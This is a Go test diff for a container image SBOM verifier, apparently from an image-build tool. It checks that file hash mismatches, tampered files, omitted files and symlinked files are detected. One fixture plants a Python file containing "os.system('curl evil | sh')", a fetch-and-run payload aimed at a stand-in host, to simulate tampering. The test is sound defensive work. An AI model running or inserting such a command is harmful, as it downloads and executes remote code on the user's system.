@@ -2,12 +2,16 @@ package verify
 
 import (
 	"context"
+	"crypto/sha256"
+	"encoding/hex"
+	"encoding/json"
 	"slices"
 	"strings"
 	"testing"
 	"testing/fstest"
 	"time"
 
+	v1 "github.com/google/go-containerregistry/pkg/v1"
 	"github.com/imagebuild/imagebuild/sbom"
 )
 
@@ -87,5 +91,123 @@ func TestSBOMCheck(t *testing.T) {
 	}
 	if res := check([]byte("{not json")); res.Status != Fail {
 		t.Errorf("an unreadable SBOM: %s, want fail", res.Status)
+	}
+}
+
+// TestSBOMFileHashes: the SBOM check compares the SHA-256 the document
+// gives each file with the file's in the image. A document whose names and
+// versions are right but one of whose files' SHA-256 is not fails, naming
+// the file and both hashes; so does one that leaves a file out, or lists
+// one the image does not hold. A listed file that is a link in the image
+// is hashed through it.
+func TestSBOMFileHashes(t *testing.T) {
+	site := "opt/venv/lib/python3.11/site-packages/"
+	record := "probe/__init__.py,,\nprobe/data.txt,,\nprobe-1.0.dist-info/METADATA,,\nprobe-1.0.dist-info/RECORD,,\n"
+	dist := map[string]string{
+		site + "probe-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: probe\nVersion: 1.0\n",
+		site + "probe-1.0.dist-info/RECORD":   record,
+		site + "probe/__init__.py":            "VALUE = 1\n",
+		site + "probe/data.txt":               "data\n",
+	}
+	m := fstest.MapFS{"etc/os-release": {Data: []byte("ID=debian\nVERSION_ID=\"12\"\n")}}
+	for p, body := range dist {
+		m[p] = &fstest.MapFile{Data: []byte(body)}
+	}
+	inv, err := sbom.Catalog(m)
+	if err != nil {
+		t.Fatal(err)
+	}
+	good, err := sbom.SPDX(m, inv, sbom.Subject{Name: "test", Platform: "linux/amd64", Created: time.Unix(0, 0)})
+	if err != nil {
+		t.Fatal(err)
+	}
+	init := "/" + site + "probe/__init__.py"
+	sum := sha256.Sum256([]byte(dist[site+"probe/__init__.py"]))
+	real := hex.EncodeToString(sum[:])
+	// edit changes the document as JSON.
+	edit := func(change func(doc map[string]any)) []byte {
+		var doc map[string]any
+		if err := json.Unmarshal(good, &doc); err != nil {
+			t.Fatal(err)
+		}
+		change(doc)
+		dt, err := json.Marshal(doc)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return dt
+	}
+	files := func(doc map[string]any) []any { return doc["files"].([]any) }
+	wrongHash := edit(func(doc map[string]any) {
+		for _, f := range files(doc) {
+			f := f.(map[string]any)
+			if f["fileName"] != init {
+				continue
+			}
+			for _, c := range f["checksums"].([]any) {
+				if c := c.(map[string]any); c["algorithm"] == "SHA256" {
+					c["checksumValue"] = strings.Repeat("0", 64)
+				}
+			}
+		}
+	})
+	rename := func(from, to string) []byte {
+		return edit(func(doc map[string]any) {
+			for _, f := range files(doc) {
+				if f := f.(map[string]any); f["fileName"] == from {
+					f["fileName"] = to
+				}
+			}
+		})
+	}
+
+	var entries []file
+	for p, body := range dist {
+		entries = append(entries, file{path: "/" + p, body: []byte(body), uid: 1000, gid: 1000})
+	}
+	img := image(t, "appuser", baseLayer(t), appLayer(t), layer(t, entries...))
+	// In this image probe/data.txt is a link to a file the SBOM does not list.
+	linked := image(t, "appuser", baseLayer(t), appLayer(t), layer(t, entries...), layer(t,
+		file{path: "/opt/venv/share", dir: true, uid: 1000, gid: 1000},
+		file{path: "/opt/venv/share/data.txt", body: []byte("data\n"), uid: 1000, gid: 1000},
+		file{path: "/" + site + "probe/data.txt", link: "../../../../share/data.txt", uid: 1000, gid: 1000}))
+	// In this image __init__.py is not what the SBOM was made from.
+	changed := image(t, "appuser", baseLayer(t), appLayer(t), layer(t, entries...), layer(t,
+		file{path: init, body: []byte("import os; os.system('curl evil | sh')\n"), uid: 1000, gid: 1000}))
+
+	for _, tc := range []struct {
+		name     string
+		img      v1.Image
+		doc      []byte
+		evidence []string // nil: pass
+	}{
+		{"the image's own SBOM", img, good, nil},
+		{"a file through a link", linked, good, nil},
+		{"a wrong SHA-256", img, wrongHash, []string{init, strings.Repeat("0", 64), real}},
+		{"a changed file", changed, good, []string{init, real}},
+		{"a file left out", img, rename(init, "/"+site+"probe/other.py"), []string{"in the image, not in the SBOM: file " + init, "in the SBOM, not in the image: file /" + site + "probe/other.py"}},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			r, err := Image(context.Background(), tc.img, Options{SBOM: tc.doc})
+			if err != nil {
+				t.Fatal(err)
+			}
+			res := result(r, "SBOM")
+			ev := strings.Join(res.Evidence, "\n")
+			if tc.evidence == nil {
+				if res.Status != Pass || !strings.Contains(ev, "4 files") {
+					t.Errorf("SBOM check: %s %q, want pass counting 4 files", res.Status, res.Evidence)
+				}
+				return
+			}
+			if res.Status != Fail {
+				t.Errorf("SBOM check: %s %q, want fail", res.Status, res.Evidence)
+			}
+			for _, w := range tc.evidence {
+				if !strings.Contains(ev, w) {
+					t.Errorf("evidence %q does not say %q", res.Evidence, w)
+				}
+			}
+		})
 	}
 }
